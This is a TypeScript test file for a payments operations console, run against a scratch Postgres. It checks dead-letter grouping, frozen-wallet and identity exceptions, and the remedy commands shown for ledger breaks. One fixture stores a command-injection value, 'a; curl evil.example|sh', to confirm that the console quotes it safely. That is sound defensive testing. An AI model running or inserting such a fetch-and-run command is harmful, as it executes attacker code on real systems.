import { expect, test } from 'bun:test'
import postgres from 'postgres'
import { startScratchPostgres } from '#test/support/scratch-postgres'
import { openBreaks } from '../books/judge'
import { groupIdOf, listDeadLetters } from '../cli/dead-letters/letters'
import { remedyFor } from '../cli/remedy'
import { readRows } from '../health/rows'
import { readAttention } from './exceptions'

test('the console groups dead letters as `ops dead-letters` does, and says why a wallet is frozen or unverified', async () => {
  await using server = await startScratchPostgres()
  const sql = postgres(server.adminUrl, { max: 2, onnotice: () => {} })
  await sql`
    insert into payments.dead_letter (consumer, message_id, subject, payload, reason)
    select 'payments', 'msg_' || n, 'relay.credit.settled', '{}', 'no payment ' || n || ' here'
    from generate_series(1, 3) n`
  await sql`insert into payments.wallets (wallet, frozen, revision) values ('0x1', true, 1)`
  await sql`
    insert into gateway.identities (wallet, state, provider, decided_at, flag_failed_at, failure)
    values ('0x2', 'verified', 'p', now(), now(), 'reverted')`
  const { exceptions, dead } = await readAttention(sql)
  const [letter] = await listDeadLetters(sql)
  expect(dead).toMatchObject([{ id: groupIdOf(letter!), count: 3, error: 'no payment # here' }])
  expect(exceptions).toMatchObject([
    { kind: 'frozen', id: '0x1', says: 'owes 0.000000 AUSD, frozen on chain' },
    { kind: 'identity', id: '0x2', says: 'verified, but its flag is not on the chain: reverted' },
  ])
  await sql.end({ timeout: 1 })
})

test('the console shows the command of `ops reconcile` for a break, and a command that quotes any other item', async () => {
  await using server = await startScratchPostgres()
  const sql = postgres(server.adminUrl, { max: 2, onnotice: () => {} })
  const transfer = `0x${'1'.repeat(64)}:3`
  await sql`
    insert into books.breaks (rule, item, asset, amount, about, found_at)
    values ('treasury_moved', ${transfer}, 'AUSD', 5, 'why', now() - interval '1 hour')`
  await sql`
    insert into payments.anomalies (id, kind, account, object)
    values ('1', 'status_unknown', 'ID', 'a; curl evil.example|sh')`
  const { exceptions } = await readAttention(sql)
  const [broken] = await openBreaks(sql)
  expect(exceptions.map(({ kind, command }) => [kind, command]).sort()).toEqual([
    ['anomaly', "bun run ops trace 'a; curl evil.example|sh'"],
    ['break', remedyFor(broken!)],
  ])
  expect(remedyFor(broken!)).toBe(`bun run ops unexplained return ${transfer} --reason <why>`)
  await sql.end({ timeout: 1 })
})

test('the console lists the breaks that status counts: neither young nor explained ones', async () => {
  await using server = await startScratchPostgres()
  const sql = postgres(server.adminUrl, { max: 2, onnotice: () => {} })
  const hour = 3_600_000
  const noted = async (item: string, foundAt: number, restsUntil: number | null = null) =>
    sql`
      insert into books.breaks (rule, item, asset, amount, about, found_at, rests_until)
      values ('payment_chain', ${item}, 'AUSD', 1, 'why', ${new Date(foundAt)},
        ${restsUntil && new Date(restsUntil)})`
  await noted('young', Date.now())
  await noted('old', Date.now() - hour)
  await noted('explained', Date.now() - hour, Date.now() + hour)
  const listed = (await readAttention(sql)).exceptions.map(({ id }) => id)
  expect(listed).toEqual(['old'])
  const { breaks } = await readRows(sql)
  expect(breaks.filter(({ standing }) => standing === 'counts')).toHaveLength(listed.length)
  await sql.end({ timeout: 1 })
})
